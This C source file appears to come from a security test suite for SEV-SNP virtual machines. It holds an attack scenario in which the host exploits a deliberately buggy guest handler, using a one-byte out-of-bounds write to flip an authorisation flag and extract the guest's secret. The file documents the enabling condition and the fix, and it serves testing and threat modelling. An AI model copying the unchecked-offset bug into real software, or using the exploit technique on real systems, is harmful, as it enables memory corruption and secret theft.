/*
 * host/attacks/scn_guest_bug.c - guest bugs stay exploitable (THREAT-MODEL.md N6; attacks.md
 * G3): the agent carries a deliberately buggy diagnostic handler, NOTE (a test fixture,
 * docs/guest.md), that checks the host's offset and length against the struct that contains
 * its 32-byte note buffer instead of the buffer itself. Right behind the buffer lies the flag
 * that gates ADMIN, which hands out a per-boot secret.
 *
 * The host, knowing the image (it is measured, not secret), sends ADMIN (refused: the
 * control), then a NOTE of one byte at offset 32, then ADMIN again. Enabling condition: the
 * guest trusts a length/offset read from host input. Defence: none in SNP, which protects
 * the guest's memory from the host, not from the guest's own code; only fixing the handler
 * would. Expected: SUCCEEDED on every profile.
 */
#include "host/attacks/atk_int.h"

#include "snpkit/util.h"

#include <string.h>

#define SECRET_LEN 32u

static size_t
msg_admin(uint8_t *out)
{
    memset(out, 0, 4);
    out[0] = SNP_CHAN_OP_ADMIN;
    return 4;
}

/* NOTE with one byte @v at @off (the offset the host chooses). */
static size_t
msg_note(uint8_t *out, uint16_t off, uint8_t v)
{
    memset(out, 0, 9);
    out[0] = SNP_CHAN_OP_NOTE;
    out[4] = (uint8_t)off;
    out[5] = (uint8_t)(off >> 8);
    out[6] = 1; /* u16 length */
    out[8] = v;
    return 9;
}

/* The status of the guest's answer to @op, or -1 when it did not answer that op. */
static int
status_of(const struct atk_vm *vm, uint8_t op)
{
    if (vm->st.stop != SNP_VMM_RUNNING || vm->last_len < 4 ||
        vm->last[0] != (uint8_t)(op | SNP_CHAN_OP_RESPONSE)) {
        return -1;
    }
    return vm->last[1];
}

static snp_err
atk_guest_bug(struct snp_atk_ctx *c, struct snp_atk_observed *obs)
{
    struct snp_vmm_launch l;
    struct atk_vm vm;
    uint8_t msg[16], secret[SECRET_LEN];
    char hex[2 * 8 + 1], b[96];
    int s0, s1, s2;
    snp_err err;

    memset(secret, 0, sizeof(secret));
    atk_launch_default(c, &l);
    err = atk_vm_start(c, &vm, &l, msg, msg_admin(msg));
    if (err != SNP_OK) {
        goto out;
    }
    err = atk_vm_exchange(&vm, msg, msg_note(msg, SNP_CHAN_NOTE_AUTH_OFF, 1));
    if (err != SNP_OK) {
        goto out;
    }
    s0 = status_of(&vm, SNP_CHAN_OP_ADMIN);
    atk_trace(c, SNP_ATK_ACT_GUEST, "ADMIN before: status %d (%s)", s0,
              s0 >= 0 ? snp_err_str((snp_err)s0) : "no answer");
    if (s0 <= 0) {
        atk_evidence(obs, SNP_ATK_NOT_RUN, "control failed: ADMIN answered status %d before", s0);
        goto out;
    }
    atk_trace(c, SNP_ATK_ACT_HV, "NOTE: 1 byte (0x01) at offset %u of the 32-byte note",
              SNP_CHAN_NOTE_AUTH_OFF);
    err = atk_vm_exchange(&vm, msg, msg_admin(msg));
    if (err != SNP_OK) {
        goto out;
    }
    s1 = status_of(&vm, SNP_CHAN_OP_NOTE);
    atk_trace(c, SNP_ATK_ACT_GUEST, "NOTE: status %d", s1);
    err = atk_vm_exchange(&vm, msg, atk_msg_shutdown(msg));
    if (err != SNP_OK) {
        goto out;
    }
    s2 = status_of(&vm, SNP_CHAN_OP_ADMIN);
    if (s1 != 0) {
        atk_evidence(obs, SNP_ATK_DETECTED_GUEST,
                     "the guest refused the note at offset %u: status %d (%s)",
                     SNP_CHAN_NOTE_AUTH_OFF, s1,
                     s1 > 0 ? snp_err_str((snp_err)s1) : (atk_stop_text(&vm, b, sizeof(b))));
    } else if (s2 == 0 && vm.last_len >= 4 + SECRET_LEN) {
        /* the secret travelled through the shared channel page, in the clear */
        memcpy(secret, vm.last + 4, SECRET_LEN);
        err = snp_hex_encode(hex, sizeof(hex), secret, 8);
        if (err != SNP_OK) {
            goto out;
        }
        atk_evidence(obs, SNP_ATK_SUCCEEDED,
                     "ADMIN refused (status %d) until a 1-byte NOTE at offset %u set the "
                     "guest's `authorised` flag (the handler bounds by its 65-byte struct, not "
                     "the 32-byte note); ADMIN then gave the host the guest's %u-byte secret "
                     "(%s..)",
                     s0, SNP_CHAN_NOTE_AUTH_OFF, SECRET_LEN, hex);
    } else {
        atk_evidence(obs, SNP_ATK_DETECTED_GUEST,
                     "NOTE accepted but ADMIN still refused (status %d): the flag did not flip",
                     s2);
    }
out:
    snp_wipe(secret, sizeof(secret));
    atk_vm_free(&vm);
    return err;
}

/* A guest's own bugs are outside the SNP guarantees (THREAT-MODEL.md N6). */
const struct snp_atk_scenario atk_scn_guest_bug = {
    .id = "guest-bug",
    .title = "exploit a buggy guest handler through channel input",
    .ref = "N6",
    .cap = "H6",
    .condition = "the guest trusts an offset read from host input (agent NOTE, a test fixture)",
    .defence = "none in SNP: fix the guest (bound by the buffer, not the containing struct)",
    .profiles = ATK_P_ALL,
    .expect = {SNP_ATK_SUCCEEDED, SNP_ATK_SUCCEEDED, SNP_ATK_SUCCEEDED},
    .run = atk_guest_bug,
};
